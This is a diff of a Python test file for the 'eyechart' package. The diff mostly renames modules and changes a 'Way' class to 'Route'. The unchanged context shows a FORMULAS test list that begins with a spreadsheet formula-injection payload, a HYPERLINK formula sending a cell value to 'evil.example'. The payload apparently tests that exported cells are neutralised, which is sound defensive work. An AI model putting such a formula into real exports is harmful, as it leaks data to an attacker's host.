@@ -9,11 +9,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from eyechart.cli import main
-from eyechart.compat.evalscope.comparison import Way, as_csv, as_markdown, compare
-from eyechart.datasets.questions.tables import dump, load_table
-from eyechart.datasets.questions.xlsx import read_xlsx, write_xlsx
-from eyechart.io.cells import csv_text, guarded, is_formula, unguarded
-from eyechart.report.load import load_results
+from eyechart.datasets.questions.prediction_files import dump, load_table, read_xlsx, write_xlsx
+from eyechart.io.text_tables import csv_text, guarded, is_formula, unguarded
+from eyechart.report.loader import load_results
+from eyechart.report.retrieval_comparison import Route, as_csv, as_markdown, compare
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/"&A1)',
@@ -159,7 +158,7 @@ def test_the_note_below_a_table_cannot_leave_its_comment(tmp_path, capsys):
 @pytest.mark.parametrize("text", TEXTS)
 def test_the_comparison_of_ways_to_search(text):
     ranks = {("i1", 0): 1.0, ("i2", 0): 2.0, ("i3", 0): 1.0}
-    table = compare("d\re", [Way("images", text, ranks, "x.json"), Way("captions", "m", ranks, "y.json")], [1])
+    table = compare("d\re", [Route("images", text, ranks, "x.json"), Route("captions", "m", ranks, "y.json")], [1])
 
     rows = cells_of(as_csv(table))
 
